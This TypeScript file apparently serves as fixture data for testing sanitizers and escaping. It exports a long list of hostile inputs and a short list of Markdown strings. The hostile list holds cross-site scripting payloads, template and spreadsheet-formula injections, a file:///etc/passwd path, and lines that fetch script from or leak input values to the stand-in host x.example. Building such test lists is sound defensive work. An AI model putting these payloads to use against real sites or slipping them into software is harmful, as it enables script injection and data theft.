/**
 * Words that would do something in a careless page, card, mail or editor: written by a person into any field, or standing in
 * a template, a policy file or a note that somebody else wrote.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt src=//x.example></sCrIpT >', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert&lpar;1&rpar;</script>',
  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>', '<iframe srcdoc="<b onclick=alert(1)>">', '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<a href=data:text/html,<script>1</script>>x</a>', '<form action=//x.example><input name=q></form>',
  '<object data=x></object>', '<embed src=x>', '<base href=//x.example>', '<meta http-equiv=refresh content="0;url=//x.example">',
  '<link rel=stylesheet href=//x.example>', '<style>@import "//x.example"</style>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><x/>', '</td></tr></tbody></table><h1>mine</h1>',
  '</td><td onclick=alert(1)>', '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;', '&#x3c;img src=x onerror=alert(1)&#x3e;', '&amp;lt;b&amp;gt;', '\\u003cscript\\u003ealert(1)', '\u003cb\u003e',
  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '` onclick=alert(1) `', 'x" style="background:url(//x.example)', '<b/onclick=alert(1)//',
  '<<script>alert(1);//<</script>', '<img src="a>b" onerror=alert(1)>', '＜script＞alert(1)＜/script＞', '<\u0000script>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a\u000chref=javascript:alert(1)>', '\u202e<script>', '<x-y onclick=alert(1)>', '<attachment id="1"></attachment>', '<at id="0">Anna</at>',
  // Handlers on elements that load, animate, open, play or take the focus by themselves.
  '<img src=x oNeRrOr=alert(1)>', '<img src onerror\n=\nalert(1)>', '<img src=x:x onerror="alert&#40;1&#41;">', '<img srcset="x 1x" onerror=alert(1)>', '<image href=x onerror=alert(1)>',
  '<picture><source srcset=x><img onerror=alert(1)></picture>', '<input autofocus onfocus=alert(1)>', '<input type=image src=x onerror=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>', '<dialog open onclose=alert(1)>',
  '<audio src=x onerror=alert(1)>', '<audio autoplay oncanplay=alert(1) src=data:audio/wav;base64,UklGRg==>', '<video src=x onerror=alert(1)>', '<video onloadstart=alert(1)><source></video>', '<track default oncuechange=alert(1)>',
  '<marquee onstart=alert(1)>', '<marquee loop=1 width=0 onfinish=alert(1)>', '<style onload=alert(1)></style>', '<link rel=stylesheet href=data:, onload=alert(1)>', '<script src=data:text/javascript,alert(1)></script>',
  '<iframe onload=alert(1)>', '<iframe src=javascript:alert(1)>', '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">', '<frameset onload=alert(1)>', '<object data="javascript:alert(1)">', '<object onerror=alert(1) data=x>',
  '<embed src="javascript:alert(1)">', '<applet code=x onerror=alert(1)>', '<div style="animation-name:x" onanimationstart=alert(1)>', '<style>@keyframes x{}</style><b style="animation:x" onanimationend=alert(1)>',
  '<div style="transition:all 1s" ontransitionend=alert(1) tabindex=0>', '<p onpointerenter=alert(1) style="position:fixed;inset:0">x</p>', '<x contenteditable onblur=alert(1) autofocus tabindex=1>', '<b draggable=true ondragstart=alert(1)>x</b>',
  '<body onpageshow=alert(1)>', '<body onhashchange=alert(1)><a href=#x>', '<details ontoggle=alert(1) open><summary>x', '<menu id=x contextmenu=x onshow=alert(1)>', '<slot onslotchange=alert(1)>',
  // Links and forms that lead into script, or elsewhere.
  '<a href="java\tscript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href=" &#1; javascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a ping=//x.example href=#>x</a>', '<area href=javascript:alert(1)>',
  '<form action=javascript:alert(1)><input type=submit>', '<button formaction=javascript:alert(1)>x</button>', '<isindex action=javascript:alert(1) type=submit>', '<meta http-equiv="refresh" content="0;javascript:alert(1)">', '<base href="javascript:/a/">',
  'javascript:alert(1)', 'JAVASCRIPT:alert(1)//', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'ms-msdt:/id x', 'msteams:/l/chat', '//x.example/a.js', '\\\\x.example\\share', 'file:///etc/passwd',
  // Vector graphics and mathematics, where other rules of reading hold.
  '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><set onbegin=alert(1) attributename=x>', '<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x/>#x">',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><title><![CDATA[</title><script>alert(1)</script>]]>', '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>', '<math href=javascript:alert(1)>x</math>', '<math><mi/xlink:href="data:x,<script>alert(1)</script>">', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  // What a sanitizer may read otherwise than a browser does.
  '<noscript><style></noscript><img src=x onerror=alert(1)>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<plaintext><script>alert(1)</script>', '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<table><td><img src=x onerror=alert(1)></table>', '<p id="--><img src=x onerror=alert(1)>"><!--', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!DOCTYPE x [<!ENTITY y "z">]>',
  '<img src=`x`onerror=alert(1)>', '<img """><script>alert(1)</script>">', '<script/x>alert(1)</script/x>', '<script\u00a0>alert(1)</script>', '<script\u2028>alert(1)</script>', '</script ><script>alert(1)</script >', '<%00script>alert(1)</script>', '<\u200bscript>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '%3Cscript%3Ealert(1)%3C/script%3E', '%253Cscript%253E', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '&lt;img src=x onerror=alert(1)&gt', '&#0000060script&#0000062', '&LT;script&GT;', '&NewLine;&lt;b&gt;',
  // Templates and frameworks.
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{{{x}}}', '[[${x}]]', '{%raw%}', '<div v-html="x" ng-app onclick=alert(1)>', 'dangerouslySetInnerHTML={{__html:"<b>"}}', '__proto__', 'constructor', 'toString',
  // Names that a page looks things up by, and styles that reach out.
  '<a id=location><a id=location name=href href="x:y">', '<form id=document><input name=cookie></form>', '<img name=getElementById>', '<div style="background:url(https://x.example/a.png)">', '<style>input[value^=a]{background:url(//x.example/a)}</style>', '<div style="width:expression(alert(1))">',
  '<link rel=prefetch href=//x.example>', '<link rel=import href=data:text/html,<script>alert(1)</script>>', '<portal src=//x.example>', '<fencedframe src=//x.example>', '<object type=text/x-scriptlet data=//x.example>',
  // What mail, chat and cards would act on.
  '<emoji alt="<img src=x onerror=alert(1)>"></emoji>', '<img itemtype="http://schema.skype.com/Emoji" alt="<script>alert(1)</script>">', '<attachment id="x" contentType="application/vnd.microsoft.card.adaptive"></attachment>', '<o:OLEObject Type="Embed">', '<v:vmlframe src=x>', '<o:p onclick=alert(1)></o:p>',
  '{"type":"Action.Submit","data":{"x":1}}', '","type":"Action.OpenUrl","url":"javascript:alert(1)"}', '\\",\\"actions\\":[]', '\u0000\u0001x\u0002', '\ufeff<script>alert(1)</script>', '\u202e>tpircs<', '\ud83d<script>', '=HYPERLINK("https://x.example","x")', '=cmd|\'/c calc\'!A1', '@import "//x.example";',
];

/** Words with a meaning in Markdown, harmless in HTML. */
export const MARKDOWN_TEXTS: readonly string[] = [
  '[click](https://x.example)', '[click][1]', '![i](https://x.example/i.png)', '<https://x.example>', '**loud**', '__loud__', '*a*', '_a_', '`code`', '~~gone~~',
  '- item', '+ item', '* item', '1. item', '2) item', '# head', '> quote', '| a | b |', '{{DATE(2026-11-22T00:00:00Z, LONG)}}', '{{TIME(2026-11-22T00:00:00Z)}}',
  '&copy;', '&#42;&#42;', '\\*', '[a\\](b)', '[a]: https://x.example', '<b>x</b>', '--- ', '===', '```js',
];
